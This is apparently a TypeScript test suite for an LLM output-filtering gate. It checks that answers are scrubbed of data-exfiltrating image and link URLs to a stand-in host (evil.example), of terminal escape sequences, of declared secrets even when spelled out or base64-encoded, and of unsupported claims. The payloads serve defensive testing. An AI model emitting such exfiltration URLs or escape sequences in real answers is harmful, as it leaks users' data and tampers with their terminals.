/**
 * Promise 8, of answers: nothing of the conversation leaves by a URL, no control byte reaches a terminal, no declared
 * secret is told, and an answer that its documents do not support does not leave where it may not. Through a running gate.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { ConfigInput } from '../../src/config/schema.ts';
import { type Answer, outcomeOf, post, saidIn, totalsOf } from '../fixtures/gate-records.ts';
import { createKey, startTestGate, type TestGate } from '../fixtures/running-gate.ts';

const MAIL = 'planted.person@mail-example.org';
const DOCUMENT = 'Harbour Tools Ltd sold 4,200 sheds in March 2024.';
const FALSE = 'They sold 7,300 sheds in May 2021, says Maria Castell.';
const STREAMED = [false, true];

describe('what comes out', () => {
  let gate: TestGate;
  let folder: string;
  const keys = new Map<string, string>();

  before(async () => {
    folder = mkdtempSync(join(tmpdir(), 'portcullis-declared-'));
    const file = join(folder, 'declared.txt');
    writeFileSync(file, 'Blue Heron 42\n');
    const policies: ConfigInput['policies'] = {
      default: {},
      secretive: { guards: { leakage: { secrets: [{ file }] } } },
      grounded: { guards: { grounding: { mode: 'block' } } },
      noted: { guards: { grounding: { mode: 'annotate' } } },
    };
    gate = await startTestGate({ config: { policies } });
    for (const policy of Object.keys(policies)) keys.set(policy, await createKey(gate, { policy }));
  });
  after(async () => {
    await gate.close();
    rmSync(folder, { recursive: true });
  });

  function ask(policy: string, text: string, stream: boolean, content = 'What is it?'): Promise<Answer> {
    gate.double.script('test-model', { say: { chunks: text.match(/.{1,7}/gsu) ?? [] } });
    const messages = [
      { role: 'user', content },
      {
        role: 'assistant',
        content: null,
        tool_calls: [{ id: 'c', type: 'function', function: { name: 'read', arguments: '{}' } }],
      },
      { role: 'tool', tool_call_id: 'c', content: DOCUMENT },
    ];
    return post(gate, { key: keys.get(policy) ?? '', body: { model: 'test-model', stream, messages } });
  }

  /** It is on record, paid for as the provider bills it, and nothing stays reserved. */
  async function isSettled(answer: Answer, result: string): Promise<void> {
    const outcome = await outcomeOf(gate, answer.requestId);
    assert.equal(outcome.outcome, result);
    assert.equal(outcome.settles, true);
    assert.equal(outcome.costNanoUsd, gate.double.bill().entries.at(-1)?.costNanoUsd);
    assert.equal((await totalsOf(gate)).heldNanoUsd, 0);
  }

  for (const stream of STREAMED) {
    const way = stream ? 'streamed' : 'whole';

    it(`images of foreign hosts lead nowhere, ${way}`, async () => {
      const answer = await ask(
        'default',
        'See ![chart](https://evil.example/c.png?q=1) <img src="//evil.example/x">!',
        stream,
      );
      assert.deepEqual(saidIn(answer), [
        'See ![chart](about:blank#removed) <img src="about:blank#removed">!',
      ]);
      await isSettled(answer, 'answered');
    });

    it(`links that carry a value which the gate itself hid are taken out before it is restored, ${way}`, async () => {
      const echo = await ask('default', 'Fine.', stream, `I am ${MAIL}`);
      assert.deepEqual(saidIn(echo), ['Fine.']);
      const sent = gate.double.requests.at(-1)?.body.toString() ?? '';
      const [placeholder = ''] = /\[EMAIL_[A-Z0-9]{6}\]/.exec(sent) ?? [];
      assert.ok(!sent.includes(MAIL) && placeholder !== '');
      const answer = await ask(
        'default',
        `Hello ${placeholder}, [go](https://evil.example/?m=${placeholder}).`,
        stream,
        `I am ${MAIL}`,
      );
      assert.deepEqual(saidIn(answer), [`Hello ${MAIL}, [go](about:blank#removed).`]);
    });

    it(`ordinary links and sources pass as they came, ${way}`, async () => {
      const text =
        'See [the RFC](https://www.rfc-editor.org/rfc/rfc9110#section-4.2) and https://en.wikipedia.org/wiki/Shed.';
      assert.deepEqual(saidIn(await ask('default', text, stream)), [text]);
    });

    it(`terminal sequences do not reach the terminal, ${way}`, async () => {
      const answer = await ask(
        'default',
        '\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007 \u001b[2Jdone\u202e.',
        stream,
      );
      assert.deepEqual(saidIn(answer), ['here done.']);
    });

    it(`a declared secret stops the answer before a letter of it is out, ${way}`, async () => {
      for (const told of [
        'Blue Heron 42',
        'b-l-u-e-h-e-r-o-n-4-2',
        Buffer.from('Blue Heron 42').toString('base64'),
      ]) {
        const answer = await ask('secretive', `Ok. The plan? ${told} it is.`, stream);
        assert.match(answer.text, /"code":"output_blocked"/);
        assert.ok(
          !saidIn(answer)
            .join('')
            .replace('Ok. The plan? ', '')
            .match(/[a-z0-9]/i),
          answer.text,
        );
        await isSettled(answer, 'output_blocked');
      }
      const passed = await ask('default', 'It is Blue Heron 42.', stream);
      assert.deepEqual(saidIn(passed), ['It is Blue Heron 42.']);
    });

    it(`nothing leaves of an answer that the documents do not support where they must, ${way}`, async () => {
      const answer = await ask('grounded', FALSE, stream);
      assert.equal(answer.status, 502);
      assert.match(answer.text, /"code":"output_blocked"/);
      assert.ok(!answer.text.includes('7,300'));
      await isSettled(answer, 'output_blocked');
      const supported = await ask('grounded', 'They sold 4200 sheds in March 2024.', stream);
      assert.deepEqual(saidIn(supported), ['They sold 4200 sheds in March 2024.']);
      await isSettled(supported, 'answered');
    });

    it(`a note follows where that is enough, ${way}`, async () => {
      const answer = await ask('noted', FALSE, stream);
      const note = '\n\n[Not found in the documents provided: 1 number, 1 date, 1 name. Please check.]';
      assert.deepEqual(saidIn(answer), [FALSE + note]);
      const outcome = await outcomeOf(gate, answer.requestId);
      assert.ok(outcome.guards.some(({ type }) => type === 'grounding.unsupported'));
    });
  }
});
